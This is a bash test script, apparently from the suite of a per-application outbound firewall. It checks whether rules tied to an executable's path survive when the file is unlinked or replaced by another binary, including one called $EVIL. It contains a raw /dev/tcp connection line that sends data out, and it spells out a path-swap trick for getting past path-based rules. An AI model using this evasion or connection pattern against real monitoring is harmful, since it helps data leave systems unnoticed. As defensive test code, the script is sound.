# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash source=/dev/null disable=SC2086,SC2016,SC2154,SC2034
# L11: the executable is unlinked after the start, and another file takes its path.
. /snitch/leak/lib/leak.sh

leak_begin
cp /bin/bash $DIR/gone
talk="while [[ ! -e $DIR/go ]]; do sleep 0.1; done; exec 3<>/dev/tcp/$F4/80; echo leak >&3; :"
# gone WHAT: starts it, does that to its file, lets it talk.
gone() {
	rm -f $DIR/go
	[[ -e $DIR/gone ]] || cp /bin/bash $DIR/gone
	leak_policy "$2"
	(sleep 1; eval "$1"; touch $DIR/go) &
	held "$3" "$DIR/gone" tcp 80 $DIR/gone -c "$talk"
}
gone "rm $DIR/gone" "deny $DIR/nobody any" "unlinked, no rule"
t_seen "it is told as deleted" "^OWNER .*flags=0x[0-9a-f]*[13579bdf] .*exe=$DIR/gone "
# The rule in force was made for this very file; the next policy finds none at its path.
gone "rm $DIR/gone; leak_policy 'allow $DIR/gone any'" "allow $DIR/gone any" "unlinked, its path has a rule"
gone "rm $DIR/gone; cp $CURL $DIR/gone" "deny $DIR/nobody any" "unlinked, another file in its place"
: >$LOG
leak_policy "allow $DIR/gone any port 80"
far_reset
(sleep 1; rm $DIR/gone; cp $EVIL $DIR/gone; touch $DIR/go) &
rm -f $DIR/go
cp $CURL $DIR/gone
way "a rule made for the first file is not for the next" $DIR/gone tcp 80 \
	bash -c "while [[ ! -e $DIR/go ]]; do sleep 0.1; done; exec $DIR/gone tcp $F4 80 --data leak"
leak_done
